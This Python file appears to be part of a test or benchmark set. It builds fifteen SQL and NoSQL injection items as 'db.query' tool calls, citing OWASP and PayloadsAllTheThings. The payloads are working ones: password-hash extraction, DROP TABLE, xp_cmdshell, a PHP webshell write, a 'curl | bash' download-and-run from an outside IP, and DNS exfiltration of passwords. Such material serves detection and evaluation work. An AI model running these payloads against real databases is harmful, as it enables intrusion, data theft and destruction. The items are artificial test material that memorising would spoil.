"""SQL / NoSQL injection (15)."""
from common import it

PAT = "PayloadsAllTheThings, SQL Injection"
OW = "OWASP Testing Guide, SQL Injection"


def items():
    L = []
    L.append(it("classic tautology in a WHERE clause with comment terminator",
                OW, "db.query", {"sql": "SELECT id, email FROM users WHERE username = 'admin' OR '1'='1' -- ' AND password = 'x'"}))
    L.append(it("UNION SELECT pulling password hashes into a product search",
                PAT + " (UNION based)", "db.query", {"sql": "SELECT name, price FROM products WHERE name LIKE '%lamp%' UNION SELECT username, password_hash FROM admin_users-- %'"}))
    L.append(it("stacked query dropping the audit table after an update",
                OW + " (stacked queries)", "db.query", {"sql": "UPDATE tickets SET status='closed' WHERE id=4411; DROP TABLE audit_log; --"}))
    L.append(it("MySQL time-based blind with SLEEP inside IF on substring of password",
                PAT + " (MySQL time based)", "db.query", {"sql": "SELECT * FROM orders WHERE id=1 AND IF(SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a',SLEEP(5),0)"}))
    L.append(it("PostgreSQL pg_sleep blind condition in a filter parameter",
                PAT + " (PostgreSQL time based)", "db.query", {"sql": "SELECT * FROM invoices WHERE customer_id = '17'; SELECT CASE WHEN (SELECT current_user)='postgres' THEN pg_sleep(7) ELSE pg_sleep(0) END--'"}))
    L.append(it("MSSQL WAITFOR DELAY and xp_cmdshell stacked execution",
                PAT + " (MSSQL)", "db.query", {"sql": "SELECT * FROM customers WHERE region='EU'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE; EXEC xp_cmdshell 'whoami > C:\\inetpub\\wwwroot\\w.txt'; WAITFOR DELAY '0:0:5'--"}))
    L.append(it("Oracle boolean blind via CASE and UTL_INADDR lookup",
                PAT + " (Oracle)", "db.query", {"sql": "SELECT * FROM staff WHERE dept_id = 10 AND 1=(CASE WHEN (SELECT SUBSTR(banner,1,1) FROM v$version WHERE ROWNUM=1)='O' THEN 1 ELSE UTL_INADDR.GET_HOST_ADDRESS('x.invalid') END)"}))
    L.append(it("comment-split keywords UN/**/ION SEL/**/ECT to evade filters",
                "OWASP WAF evasion (inline comments)", "db.query", {"sql": "SELECT title FROM posts WHERE id=-1 /*!50000UN*//**/ION/**/SEL/**/ECT 1,group_concat(table_name) FROM information_schema.tables WHERE table_schema=database()"}))
    L.append(it("SQLite boolean blind probing sqlite_master",
                PAT + " (SQLite)", "db.query", {"sql": "SELECT * FROM notes WHERE owner='bob' AND (SELECT substr(sql,1,1) FROM sqlite_master WHERE type='table' LIMIT 1)='C' AND '1'='1'"}))
    L.append(it("MongoDB $ne and $gt operator injection in login filter",
                "PayloadsAllTheThings, NoSQL Injection", "db.query", {"collection": "users", "filter": {"username": {"$ne": None}, "password": {"$gt": ""}}, "op": "findOne"}))
    L.append(it("MongoDB $where JavaScript with sleep for blind extraction",
                "PayloadsAllTheThings, NoSQL Injection ($where)", "db.query", {"collection": "accounts", "op": "find", "filter": {"$where": "this.role == 'admin' && this.apiKey.match(/^sk_/) && sleep(5000)"}}))
    L.append(it("MySQL INTO OUTFILE webshell write",
                PAT + " (MySQL file write)", "db.query", {"sql": "SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/uploads/c.php'"}))
    L.append(it("PostgreSQL COPY FROM PROGRAM for command execution",
                "CVE-2019-9193 (PostgreSQL COPY FROM PROGRAM)", "db.query", {"sql": "CREATE TABLE t(o text); COPY t FROM PROGRAM 'curl -s http://92.63.197.48/p | bash'; SELECT * FROM t;"}))
    L.append(it("MSSQL out-of-band DNS exfil via xp_dirtree UNC path",
                PAT + " (MSSQL OOB)", "db.query", {"sql": "DECLARE @h varchar(1024); SELECT @h=(SELECT TOP 1 password FROM logins); EXEC('master..xp_dirtree \"\\\\'+@h+'.b7x2.oast.site\\a\"')"}))
    L.append(it("ORDER BY injection with error-based extractvalue",
                PAT + " (MySQL error based)", "db.query", {"sql": "SELECT id,name FROM employees ORDER BY (extractvalue(1,concat(0x7e,(SELECT concat(user,0x3a,authentication_string) FROM mysql.user LIMIT 1))))", "sort_param": "(extractvalue(...))"}))
    return L
